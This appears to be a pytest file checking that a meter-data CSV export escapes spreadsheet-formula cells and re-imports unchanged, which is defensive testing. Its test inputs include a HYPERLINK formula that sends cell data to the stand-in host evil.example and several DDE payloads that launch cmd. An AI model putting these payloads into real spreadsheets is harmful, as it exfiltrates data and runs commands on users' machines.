"""CSV exports never hand a spreadsheet a formula (issue 19: ``=HYPERLINK(…)`` passed through)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update

from headend import csvcells
from headend.archive import csvio
from headend.db import reading, writing
from headend.db.tables import meters
from tests.headend.ops_support import TUESDAY_10, seed_archive

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"details")'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.5", "-12.5"),  # a negative reading stays a number
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("Zhang San", "Zhang San"),
        (-4, -4),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_are_escaped_and_numbers_are_not(cell, shown):
    assert csvcells.escape(cell) == shown
    if isinstance(cell, str):
        assert csvcells.unescape(csvcells.escape(cell)) == cell


def test_the_meter_export_escapes_and_re_imports_unchanged(sqlite_engine):
    seed_archive(sqlite_engine)
    with writing(sqlite_engine) as conn:
        conn.execute(update(meters).where(meters.c.id == "A2-m01").values(customer=EVIL))
    with reading(sqlite_engine) as conn:
        text = csvio.export_meters(conn)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["A2-m01"]["customer"] == "'" + EVIL
    assert not any(v.startswith("=") for r in rows.values() for v in r.values())
    with writing(sqlite_engine) as conn:
        report = csvio.import_meters(conn, text, "test", TUESDAY_10)
    assert report.created == [] and report.updated == [] and report.unchanged == len(rows)
